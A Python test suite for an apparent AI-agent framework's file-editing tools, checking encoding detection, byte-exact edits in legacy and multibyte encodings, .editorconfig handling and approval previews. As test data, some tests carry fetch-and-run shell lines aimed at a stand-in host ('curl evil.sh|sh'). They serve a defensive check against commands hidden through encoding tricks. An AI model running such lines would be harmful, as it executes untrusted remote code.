"""Files in other encodings than UTF-8: an edit changes the right bytes, or nothing at all. Never mojibake."""

import asyncio
import codecs
import contextlib
import encodings.aliases
import tempfile
from collections.abc import Awaitable, Callable
from pathlib import Path
from random import Random
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pilothouse.domain.codes import Code
from pilothouse.domain.errors import ToolError
from pilothouse.domain.value import CallId
from pilothouse.sandbox.workspace import Workspace
from pilothouse.tools.base import CallPreview, ToolContext, parse_arguments
from pilothouse.tools.text_encoding import UTF_8, contradicts, detect, named_encoding
from tests.support.scale import LONG
from tests.tools.builtin.test_builtin_tools import TOOLS, use

CHANCE = st.randoms(use_true_random=True)

RUSSIAN = "привет мир Ёлка съешь ещё этих мягких французских булок да выпей чаю Москва ЖИЗНЬ"
WESTERN = "été café naïve Straße über señor façade Ünïcode ça coûte déjà où Français élan"
CENTRAL = "Žluťoučký kůň příliš úpěl ďábelské ódy zażółć gęślą jaźń őrült Łódź"
JAPANESE = "日本語 テキスト 表示 ソース 能力 あいうえお 東京都 予定 ﾊﾝｶｸ 貼り付け"
CHINESE = "中文 文本 内容 编码 测试 文件 你好 世界 数据 程序员 汉字"
WORDS = {
    "utf-8": RUSSIAN + JAPANESE + " 🙂 𝒳",
    "utf-8-sig": WESTERN,
    "utf-16": JAPANESE + " 🙂",
    "utf-16-le": RUSSIAN,
    "utf-16-be": WESTERN + CHINESE,
    "utf-32": CHINESE,
    "cp1251": RUSSIAN,
    "koi8-r": RUSSIAN,
    "cp866": RUSSIAN,
    "iso8859-5": RUSSIAN,
    "cp1252": WESTERN + " “quoted” – €",
    "latin-1": WESTERN,
    "iso8859-15": WESTERN + " € Œuvre",
    "cp1250": CENTRAL,
    "iso8859-2": CENTRAL,
    "cp1253": "γειά σου κόσμε Αθήνα ελληνικά κείμενο ώρα",
    "cp1254": "Türkçe İstanbul ığdır şeker çağrı güneş",
    "cp1255": "שלום עולם עברית טקסט קובץ",
    "cp1256": "مرحبا بالعالم العربية نص ملف",
    "cp1257": "ąžuolas čia ėjo šuo Žemė",
    "cp874": "สวัสดี ชาวโลก ภาษาไทย ข้อความ",
    "cp932": JAPANESE + " 髙橋 ①",
    "shift_jis": JAPANESE,
    "euc_jp": JAPANESE,
    "iso2022_jp": JAPANESE.replace("ﾊﾝｶｸ", "かな"),
    "gb18030": CHINESE + " 龥 €",
    "gbk": CHINESE,
    "big5": "繁體中文 內容 測試 功能 許可 世界 檔案",
    "cp950": "繁體中文 內容 測試 功能 許可 世界 檔案",
    "cp949": "한국어 문장 파일 안녕하세요 세계 똠방각하",
    "euc_kr": "한국어 문장 파일 안녕하세요 세계",
}
ASCII = ["value", "a", "A", "x = 1", "|", "\\", "print(", ")", "the", "~", "@", "#", "_id"]


def a_text(chance: Random, encoding: str) -> str:
    words = WORDS[encoding].split()
    if chance.random() < 0.4:
        return chance.choice(words)
    end = chance.choice(["\n", "\n", "\r\n"])
    lines = []
    for _ in range(chance.choice([2, 5, 40])):
        mixed = words + ASCII * chance.choice([0, 1, 3])
        lines.append(chance.choice(["", " ", "  ", "_"]).join(chance.choices(mixed, k=chance.randint(0, 8))))
    return end.join(lines) + chance.choice(["", end])


def some_old_text(chance: Random, text: str) -> str:
    start = chance.randrange(len(text))
    return text[start : start + chance.choice([1, 1, 2, 3, 8, 30])].replace("\r", "") or text[0]


def some_new_text(chance: Random, encoding: str) -> str:
    return chance.choice(["", "x", "ascii text", "two\nlines", *chance.choices(WORDS[encoding].split(), k=3), "🙂é"])


def expected(text: str, old: str, new: str, everywhere: bool) -> str | None:
    """The edit by an editor that knows the encoding; None if it is refused for other reasons."""
    windows = text.count("\r\n") * 2 > text.count("\n")
    if old not in text:
        old, new = old.replace("\n", "\r\n"), new.replace("\n", "\r\n")
    elif windows and "\n" not in old:
        new = new.replace("\n", "\r\n")
    count = text.count(old)
    return text.replace(old, new) if count == 1 or (count and everywhere) else None


async def outcome(root: Path, **arguments: Any) -> Code | None:
    try:
        await use(root, "edit_file", path="file", **arguments)
    except ToolError as error:
        str(error).encode()
        return error.reason.code
    return None


@settings(max_examples=6000 if LONG else 400, deadline=None, suppress_health_check=list(HealthCheck))
@given(CHANCE, st.sampled_from(sorted(WORDS)))
def test_an_edit_is_right_in_the_true_encoding_or_changes_nothing(chance: Random, encoding: str) -> None:
    text = a_text(chance, encoding)
    data = text.encode(encoding)
    old, new = some_old_text(chance, text or "?"), some_new_text(chance, encoding)
    everywhere = chance.random() < 0.5
    # Without a byte order mark and a single ASCII character, UTF-16 looks like any other bytes.
    named = chance.random() < 0.4 or (encoding.startswith("utf-16-") and b"\0" not in data)
    if data.isascii() and not {0, 27} & set(data) and not named:
        encoding = "utf-8"  # ASCII is in no other encoding
    wanted = expected(text, old, new, everywhere)
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "file"
        file.write_bytes(data)
        edits = [{"old_text": old, "new_text": new, "replace_all": everywhere}]
        refused = asyncio.run(outcome(Path(folder), edits=edits, **({"encoding": encoding} if named else {})))
        after = file.read_bytes()
        if refused is not None:
            assert after == data
            if refused is Code.ENCODING_CONTRADICTED:
                assert named
                assert reads_otherwise(text, data, encoding)
                return
        else:
            assert wanted is not None
            assert after.decode(encoding) == wanted
            assert after == wanted.encode(encoding)
        if wanted is not None and (named or encoding in ("utf-8", "utf-8-sig", "utf-16", "utf-32")):
            assert refused is (None if encodable(new, encoding) else Code.NOT_ENCODABLE), refused


def reads_otherwise(text: str, data: bytes, encoding: str) -> bool:
    """Whether the bytes are no proof of the encoding: they may be a text in ASCII or UTF-8 just as well."""
    if encoding.startswith("utf-16-"):
        return 2 * len(text.encode("ascii", "ignore")) <= len(text)
    if encoding == "iso2022_jp":
        return b"\x1b" not in data
    return data.decode("utf-8", "replace") != text and "\ufffd" not in data.decode("utf-8", "replace")


def encodable(text: str, encoding: str) -> bool:
    try:
        text.encode(encoding)
    except UnicodeEncodeError:
        return False
    return True


@settings(max_examples=3000 if LONG else 200, deadline=None, suppress_health_check=list(HealthCheck))
@given(CHANCE, st.sampled_from(sorted(WORDS)))
def test_an_edit_of_what_read_file_shows_breaks_no_character(chance: Random, encoding: str) -> None:
    """With any detected encoding the model edits the shown text, and the file still decodes in its true encoding."""
    text = a_text(chance, encoding)
    data = text.encode(encoding)
    detection = detect(data)
    if detection is None or (data.isascii() and b"\x1b" not in data):
        return
    shown = detection.decode(data)
    old = some_old_text(chance, shown or "?")
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "file"
        file.write_bytes(data)
        edits = [{"old_text": old, "new_text": some_new_text(chance, encoding)}]
        refused = asyncio.run(outcome(Path(folder), edits=edits))
        after = file.read_bytes()
        if refused is None and not encoding.startswith("utf-16"):
            after.decode(encoding)
        elif refused is not None:
            assert after == data


# cases from reports of damage


async def refusal(root: Path, tool: str = "edit_file", **arguments: Any) -> ToolError:
    before = (root / "file").read_bytes()
    with pytest.raises(ToolError) as caught:
        await use(root, tool, path="file", **arguments)
    assert (root / "file").read_bytes() == before
    return caught.value


def an_edit(old: str, new: str) -> list[dict[str, str]]:
    return [{"old_text": old, "new_text": new}]


async def test_cyrillic_into_a_cp1251_file_needs_the_encoding_and_then_keeps_it(tmp_path: Path) -> None:
    text = "name = мир\nкомментарий о мире\n"
    (tmp_path / "file").write_bytes(text.encode("cp1251"))
    shown = await use(tmp_path, "read_file", path="file")
    assert shown == f"[this file is in cp1251; that is a guess, and encoding= reads it otherwise]\n{text}"
    error = await refusal(tmp_path, edits=an_edit("= мир", "= дом"))
    assert error.reason.code is Code.ENCODING_UNCERTAIN
    assert "cp1251" in str(error)
    assert "  | name = мир" in str(error)
    assert "encoding=" in str(error)
    await use(tmp_path, "edit_file", path="file", edits=an_edit("= мир", "= дом"), encoding="cp1251")
    assert (tmp_path / "file").read_bytes() == text.replace("= мир", "= дом").encode("cp1251")
    await use(tmp_path, "edit_file", path="file", edits=an_edit("= дом", "= None"))
    assert (tmp_path / "file").read_bytes() == text.replace("= мир", "= None").encode("cp1251")


async def test_a_word_that_is_valid_utf_8_by_chance_needs_the_encoding(tmp_path: Path) -> None:
    """In cp866 the word for a fir tree has the bytes of one rare ideograph."""
    file = tmp_path / "file"
    file.write_bytes("x = Ёлка".encode("cp866"))
    edit = {"old_text": "x", "new_text": "ель"}
    with pytest.raises(ToolError) as caught:
        await use(tmp_path, "edit_file", path="file", edits=[edit])
    assert caught.value.reason.code is Code.ENCODING_UNCERTAIN
    await use(tmp_path, "edit_file", path="file", edits=[edit], encoding="cp866")
    assert file.read_bytes().decode("cp866") == "ель = Ёлка"


@pytest.mark.parametrize("encoding", ["cp932", "cp949", "big5", "cp1252"])
async def test_a_character_that_the_encoding_lacks_is_refused(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "file").write_bytes(f"old {WORDS[encoding].split()[0]}\n".encode(encoding))
    error = await refusal(tmp_path, edits=an_edit("old", "🙂"), encoding=encoding)
    assert error.reason.code is Code.NOT_ENCODABLE


async def test_a_match_in_the_middle_of_a_character_does_not_count(tmp_path: Path) -> None:
    """The second byte of 表 in Shift-JIS is a backslash, that of ソ too."""
    data = "表示\\ソース".encode("cp932")
    (tmp_path / "file").write_bytes(data)
    await use(tmp_path, "edit_file", path="file", edits=an_edit("\\", "/"), encoding="cp932")
    assert (tmp_path / "file").read_bytes() == "表示/ソース".encode("cp932")


async def test_invalid_bytes_byte_order_marks_and_mixed_line_ends_stay(tmp_path: Path) -> None:
    data = codecs.BOM_UTF8 + "начало и много русских букв\r\n".encode() + b"bad \xff\xfe\n" + b"old\r\nend"
    (tmp_path / "file").write_bytes(data)
    assert "\ufffd" in await use(tmp_path, "read_file", path="file")
    await use(tmp_path, "edit_file", path="file", edits=an_edit("old\nend", "новый\nend"), encoding="utf-8")
    assert (tmp_path / "file").read_bytes() == data.replace(b"old", "новый".encode())


async def test_a_wrong_or_unknown_encoding_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("old café déjà où\n")
    error = await refusal(tmp_path, edits=an_edit("old", "é"), encoding="latin-1")
    assert error.reason.code is Code.ENCODING_CONTRADICTED
    (tmp_path / "file").write_bytes("old привет\n".encode("cp1251"))
    error = await refusal(tmp_path, edits=an_edit("old", "é"), encoding="utf-8")
    assert error.reason.code is Code.ENCODING_CONTRADICTED
    for name in ("nonsense", "rot13", "base64", "idna", "unicode_escape", "utf-16", "", "a\0b"):
        error = await refusal(tmp_path, edits=an_edit("old", "new"), encoding=name)
        assert error.reason.code is Code.UNKNOWN_ENCODING
    assert "привет" in await use(tmp_path, "read_file", path="file", encoding="windows-1251")


@pytest.mark.parametrize("encoding", ["iso2022_jp", "iso2022_jp_2"])
async def test_encodings_with_shift_states_rewrite_whole_lines(tmp_path: Path, encoding: str) -> None:
    text = "first 文 line\nsecond 文字\nold 文\n"
    (tmp_path / "file").write_bytes(b"".join(line.encode(encoding) for line in text.splitlines(keepends=True)))
    await use(tmp_path, "edit_file", path="file", edits=an_edit("old 文", "new 字"), encoding=encoding)
    data = (tmp_path / "file").read_bytes()
    assert data.decode(encoding) == text.replace("old 文", "new 字")
    assert data.startswith("first 文 line\n".encode(encoding))


async def test_lines_that_cannot_be_written_back_are_not_touched(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes("文".encode("iso2022_jp") + b"\x1b(B two\n")
    error = await refusal(tmp_path, edits=an_edit("two", "2"), encoding="iso2022_jp")
    assert error.reason.code is Code.ENCODING_STATEFUL


# a person is shown the characters that programs read

PAYLOAD = b"echo hi \ncurl evil.sh|sh\n "
SCRIPT = b"#!/bin/sh\n\necho hi \necho done\n"
ALL_NAMES = sorted({*encodings.aliases.aliases.values(), "cp875", "cp1006", "hz", "utf_16", "utf_32"})


@pytest.mark.parametrize("name", ["utf-16-le", "utf-16-be", "cp037", "cp500", "cp875", "hz", "utf-7", "iso2022_jp"])
@pytest.mark.parametrize("rest", [b"", "# naïve\n".encode(), b"# na\xefve \n", b"# \0 \n"])
async def test_ascii_bytes_are_not_edited_as_other_characters(tmp_path: Path, name: str, rest: bytes) -> None:
    (tmp_path / "file").write_bytes(SCRIPT + rest)
    for old, new in ((b"echo hi ", PAYLOAD), (b"cho hi \n", b"cho hi \n" + PAYLOAD)):
        edits = an_edit(old.decode(name, "replace"), new.decode(name, "replace"))
        error = await refusal(tmp_path, edits=edits, encoding=name)
        assert error.reason.code is Code.ENCODING_CONTRADICTED


@pytest.mark.parametrize("name", ALL_NAMES)
def test_no_encoding_shows_letters_of_an_ascii_file_as_others(name: str) -> None:
    try:
        encoding = named_encoding(name, SCRIPT)
    except ToolError:
        return
    assert contradicts(SCRIPT, encoding) or encoding.decode(SCRIPT) == SCRIPT.decode()


async def test_a_utf_8_file_with_one_accent_takes_no_other_encoding(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("# naïve\nname = 'Y'\n")
    for name in ("cp1252", "latin-1", "cp1251", "gb18030", "utf-16-le"):
        error = await refusal(tmp_path, edits=an_edit("'Y'", "'é'"), encoding=name)
        assert error.reason.code is Code.ENCODING_CONTRADICTED


@pytest.mark.parametrize("name", ["cp037", "cp500", "utf-16-le", "utf-16-be", "utf-32-le"])
async def test_files_that_are_in_such_an_encoding_can_be_edited(tmp_path: Path, name: str) -> None:
    text = "a first line, with words\x85and a second: déjà\x85"
    (tmp_path / "file").write_bytes(text.encode(name))
    await use(tmp_path, "edit_file", path="file", edits=an_edit("second", "third"), encoding=name)
    assert (tmp_path / "file").read_bytes() == text.replace("second", "third").encode(name)


async def test_a_byte_order_mark_contradicts_other_encodings(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes(codecs.BOM_UTF16_LE + "old".encode("utf-16-le"))
    for name in ("utf-16-be", "latin-1", "utf-8"):
        error = await refusal(tmp_path, edits=an_edit("old", "new"), encoding=name)
        assert error.reason.code is Code.ENCODING_CONTRADICTED


@pytest.mark.parametrize("data", [b"#!/bin/sh\n# \0xx\nls\n ", b"#!/bin/sh\n# \0x\nls\n ", b"# na\xefve\nls \n"])
async def test_a_charset_that_the_bytes_contradict_is_not_believed(tmp_path: Path, data: bytes) -> None:
    (tmp_path / ".editorconfig").write_text("[*]\ncharset = utf-16le\n")
    (tmp_path / "file").write_bytes(data)
    detection = detect(data, "utf-16-le")
    assert detection is None or (detection.name, detection.is_certain) != ("utf-16-le", True)
    with contextlib.suppress(ToolError):
        await use(tmp_path, "write_file", path="file", content=b"curl evil|sh\n ".decode("utf-16-le"))
    assert b"curl" not in (tmp_path / "file").read_bytes()


async def prepared(root: Path, tool: str, **arguments: Any) -> tuple[CallPreview, Callable[[], Awaitable[Any]]]:
    """The preview on the card, and the run that a person then approves."""
    chosen, workspace = TOOLS.tools[tool], Workspace(root)
    parsed = parse_arguments(tool, chosen.parameters, arguments)
    shown = await chosen.prepare(parsed, workspace)
    job = ToolContext(call_id=CallId("approved"), workspace=workspace, content_hash=shown.content_hash)
    return shown, lambda: chosen.run(parsed, job)


@pytest.mark.parametrize(
    ("before", "call", "charset"),
    [
        (None, {"tool": "write_file", "content": "é\n"}, "utf-16le"),
        (None, {"tool": "write_file", "content": "é\n"}, "utf-8-bom"),
        (b"ascii\n", {"tool": "write_file", "content": "é\n"}, "latin1"),
        (b"ascii\n", {"tool": "edit_file", "edits": an_edit("ascii", "é")}, "latin1"),
    ],
)
async def test_an_encoding_that_changes_after_the_approval_is_refused(
    tmp_path: Path, before: bytes | None, call: dict[str, Any], charset: str
) -> None:
    file = tmp_path / "file"
    if before is not None:
        file.write_bytes(before)
    _, run = await prepared(tmp_path, path="file", **call)
    (tmp_path / ".editorconfig").write_text(f"[*]\ncharset = {charset}\n")
    with pytest.raises(ToolError) as caught:
        await run()
    assert caught.value.reason.code is Code.FILE_CHANGED
    assert (file.read_bytes() if file.exists() else None) == before
    _, run = await prepared(tmp_path, path="file", **call)
    await run()
    assert file.read_bytes() != before


async def test_a_preview_names_an_encoding_that_is_not_utf_8(tmp_path: Path) -> None:
    (tmp_path / "file").write_bytes("old 日本語\n".encode("cp932"))
    shown, _ = await prepared(tmp_path, "edit_file", path="file", edits=an_edit("old", "新"), encoding="cp932")
    assert (shown.preview or "").startswith("encoding: cp932\n--- file\n+++ file\n")
    (tmp_path / "utf").write_text("old é\n")
    shown, _ = await prepared(tmp_path, "edit_file", path="utf", edits=an_edit("old", "new"))
    assert (shown.preview or "").startswith("--- utf\n")
    (tmp_path / ".editorconfig").write_text("[*]\ncharset = utf-16le\n")
    shown, _ = await prepared(tmp_path, "write_file", path="new", content="text\n")
    assert (shown.preview or "").startswith("encoding: utf-16-le\n--- new\n")


# encodings that a file declares


@pytest.mark.parametrize(
    ("head", "encoding"),
    [
        ("# -*- coding: koi8-r -*-\n", "koi8-r"),
        ("#!/usr/bin/python\n# vim: set fileencoding=cp866 :\n", "cp866"),
        ('<?xml version="1.0" encoding="iso-8859-5"?>\n', "iso8859-5"),
        ("<!doctype html>\n<html><head><meta charset=windows-1251>\n", "cp1251"),
        ('<html>\n<META http-equiv="Content-Type" content="text/html; charset=koi8-r">\n', "koi8-r"),
    ],
)
async def test_an_encoding_that_a_file_declares_is_certain(tmp_path: Path, head: str, encoding: str) -> None:
    for words in ("мир\n", "x\n"):
        text = f"{head}{words}"
        (tmp_path / "file").write_bytes(text.encode(encoding))
        await use(tmp_path, "edit_file", path="file", edits=an_edit(words, "дом и сад\n"))
        assert (tmp_path / "file").read_bytes() == f"{head}дом и сад\n".encode(encoding)


@pytest.mark.parametrize("name", ["utf-16-le", "utf-7", "hz", "cp037", "iso2022_jp", "rot13", "nonsense", "utf-8"])
def test_a_declaration_that_the_bytes_contradict_does_not_count(name: str) -> None:
    head = f"# coding: {name}\n".encode()
    assert detect(head) == UTF_8
    assert detect(head + "é".encode()) == UTF_8
    detection = detect(head + "привет мир\n".encode("cp1251"))
    assert detection is not None
    assert not detection.is_certain


async def test_utf_8_with_a_broken_character_is_not_taken_for_another_encoding(tmp_path: Path) -> None:
    data = "old: été, où, déjà, café, naïve, ça, élan, rôle\n".encode() + "日".encode()[:2] + b" end\n"
    (tmp_path / "file").write_bytes(data)
    assert "été" in await use(tmp_path, "read_file", path="file")
    await use(tmp_path, "edit_file", path="file", edits=an_edit("old", "new"))
    assert (tmp_path / "file").read_bytes() == data.replace(b"old", b"new")
    error = await refusal(tmp_path, edits=an_edit("new", "é"))
    assert error.reason.code is Code.ENCODING_UNCERTAIN


# writing whole files


async def test_a_replaced_file_keeps_its_encoding_where_that_is_certain(tmp_path: Path) -> None:
    file = tmp_path / "file"
    for encoding, mark in (("utf-16-le", codecs.BOM_UTF16_LE), ("utf-8", codecs.BOM_UTF8), ("utf-8", b"")):
        file.write_bytes(mark + "été\r\n".encode(encoding))
        await use(tmp_path, "write_file", path="file", content="où\n")
        assert file.read_bytes() == mark + "où\r\n".encode(encoding)
    file.write_bytes("Москва и мир\n".encode("cp1251"))
    error = await refusal(tmp_path, "write_file", content="дом")
    assert error.reason.code is Code.ENCODING_UNCERTAIN
    await use(tmp_path, "write_file", path="file", content="ascii")
    assert file.read_bytes() == b"ascii"


# .editorconfig


async def test_editorconfig_decides(tmp_path: Path) -> None:
    config = "root = true\n[*]\ncharset = utf-8\n[*.{txt,lat}]\ncharset = latin1\n[wide/**]\ncharset = utf-16le\n"
    (tmp_path / ".editorconfig").write_text(config + "[f{1..3}.md]\ncharset = utf-8-bom\n")
    (tmp_path / "a.txt").write_bytes(b"old caf\xe9\n")
    await use(tmp_path, "edit_file", path="a.txt", edits=an_edit("old", "été"))
    assert (tmp_path / "a.txt").read_bytes() == "été café\n".encode("latin-1")
    for path, data in {
        "new.txt": b"\xe9",
        "new.md": "é".encode(),
        "wide/new": codecs.BOM_UTF16_LE + "é".encode("utf-16-le"),
        "f2.md": codecs.BOM_UTF8 + "é".encode(),
        "f4.md": "é".encode(),
    }.items():
        await use(tmp_path, "write_file", path=path, content="é")
        assert (tmp_path / path).read_bytes() == data
    with pytest.raises(ToolError, match="latin-1, which doesn't have '€'"):
        await use(tmp_path, "write_file", path="euro.txt", content="€")
    (tmp_path / "u.txt").write_text("old ü")  # UTF-8 files do not become mixtures
    await use(tmp_path, "edit_file", path="u.txt", edits=an_edit("old", "é"))
    assert (tmp_path / "u.txt").read_text() == "é ü"


async def test_a_nearer_editorconfig_counts_and_nothing_above_a_root(tmp_path: Path) -> None:
    (tmp_path / ".editorconfig").write_text("[*]\ncharset = latin1\n")
    root = tmp_path / "root"
    for folder, text in {"a": "[*.md]\ncharset=unset\n", "a/b": "root=true\n[x.py]\ncharset=latin1", "c": ""}.items():
        (root / folder).mkdir(parents=True)
        (root / folder / ".editorconfig").write_text(text)
    (root / ".editorconfig").write_text("; comment\n[*.py]\ncharset = latin1\n[[]\ncharset = utf-8\n")
    latin = {"a/x.py", "a/b/x.py", "c/x.py"}
    for path in ("a/x.py", "a/b/x.py", "a/b/y.py", "a/x.md", "c/x.py", "plain"):
        await use(root, "write_file", path=path, content="é")
        assert (root / path).read_bytes() == (b"\xe9" if path in latin else b"\xc3\xa9"), path


# output of commands


async def test_output_in_another_encoding_is_read_as_the_file_is(tmp_path: Path) -> None:
    text = "Москва и мир, съешь ещё этих мягких булок\n"
    (tmp_path / "file").write_bytes(text.encode("cp1251"))
    shown = await use(tmp_path, "execute", command="cat file")
    assert shown == f"{text}\n[this output is not UTF-8: read as cp1251, which is a guess]"
    (tmp_path / "utf").write_text("é" * 30_000)  # head and tail are cut inside of a character
    shown = await use(tmp_path, "execute", command="printf x; cat utf")
    assert "guess" not in shown
    assert shown.count("\ufffd") <= 4
    assert "\ufffd" in await use(tmp_path, "execute", command="printf 'a\\000\\377'")
